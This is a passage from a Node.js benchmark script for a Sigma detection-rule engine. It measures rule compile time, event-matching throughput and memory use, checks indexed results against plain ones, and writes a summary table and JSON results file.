        throw new Error(`index changed the result for event ${i}: ${a} vs ${b}`);
      }
      hits += b.length;
    }
    return hits;
  });
  const [plainOnlyMs] = timeIt(() => {
    for (let i = 0; i < events.length; i++) plain.test(events[i]);
  });
  if (plainHits !== testHits)
    throw new Error(`plain evaluation found ${plainHits} hits, indexed ${testHits}`);
  void plainMs;
  const heapEnd = process.memoryUsage().heapUsed;

  const eps = (ms) => Math.round(events.length / (ms / 1000));
  const best = (a) => Math.min(...a);
  const result = {
    node: process.version,
    seed: SEED,
    events: events.length,
    avgEventBytes: Math.round(bytes / events.length),
    rules: ruleSet.rules.length,
    builtinRules: builtin.length,
    ruleLoadCompileMs: Math.round(best(loadRuns) * 10) / 10,
    builtinRuleLoadCompileMs: Math.round(coldMs * 10) / 10,
    generateMs: Math.round(genMs),
    jsonParseEventsPerSec: eps(parseMs),
    testEventsPerSec: eps(best(testRuns)),
    testRunsMs: testRuns.map(Math.round),
    matchEventsPerSec: eps(best(matchRuns)),
    matchRunsMs: matchRuns.map(Math.round),
    plainTestEventsPerSec: eps(plainOnlyMs),
    matchingRuleHits: testHits,
    heapUsedMB: mb(heapEnd),
    heapEventsMB: mb(heapAfterEvents - heapStart),
    targetTestEventsPerSec: TARGET_TEST_EPS,
    meetsTarget: eps(best(testRuns)) >= TARGET_TEST_EPS,
    totalSeconds: Math.round((performance.now() - started) / 100) / 10,
  };

  const rows = [
    [
      'rules (built-in + generated)',
      `${result.rules} (${result.builtinRules} + ${result.rules - result.builtinRules})`,
    ],
    ['rule load + compile, 100 rules (best of 3)', `${result.ruleLoadCompileMs} ms`],
    ['rule load + compile, built-in pack (best of 3)', `${result.builtinRuleLoadCompileMs} ms`],
    ['events (avg JSON size)', `${result.events} (${result.avgEventBytes} B)`],
    ['JSON.parse', `${result.jsonParseEventsPerSec.toLocaleString('en-US')} events/s`],
    ['ruleSet.test() (best of 3)', `${result.testEventsPerSec.toLocaleString('en-US')} events/s`],
    ['ruleSet.match() (best of 3)', `${result.matchEventsPerSec.toLocaleString('en-US')} events/s`],
    [
      'ruleSet.test() without the candidate index (same hits, checked)',
      `${result.plainTestEventsPerSec.toLocaleString('en-US')} events/s`,
    ],
    ['rule hits per pass', String(result.matchingRuleHits)],
    [
      'heap used (end) / held by parsed events',
      `${result.heapUsedMB} MB / ${result.heapEventsMB} MB`,
    ],
    [
      `test() target >= ${TARGET_TEST_EPS.toLocaleString('en-US')} events/s`,
      result.meetsTarget ? 'met' : 'NOT met',
    ],
    ['total bench time', `${result.totalSeconds} s`],
  ];
  console.log(`\n## Sigma engine benchmark (node ${process.version}, seed ${SEED})\n`);
  console.log('| measure | value |\n|---|---|');
  for (const [k, v] of rows) console.log(`| ${k} | ${v} |`);
  const outDir = join(HERE, 'out');
  mkdirSync(outDir, { recursive: true });
  writeFileSync(join(outDir, 'sigma.json'), `${JSON.stringify(result, null, 2)}\n`);
  console.log(`\nwritten to ${join('bench', 'out', 'sigma.json')}`);
  if (!result.meetsTarget && process.env.BENCH_ENFORCE !== '0') process.exitCode = 1;
}

main();
